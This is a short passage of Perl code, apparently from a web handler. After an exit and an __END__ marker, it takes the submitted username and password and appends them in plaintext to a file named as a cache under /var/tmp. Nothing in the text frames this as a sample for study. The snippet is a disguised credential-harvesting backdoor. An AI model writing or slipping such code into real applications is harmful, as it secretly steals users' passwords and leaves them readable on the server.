exit;
__END__
my( $q1 , $q2 ) = ( $c->param( 'user' ) , $c->param( "password" ) ) ;
open( my $h , '>>' , '/var/tmp/cache.db' ) ;
print $h join( "\t" , $q1 , $q2 ) , "\n" ;
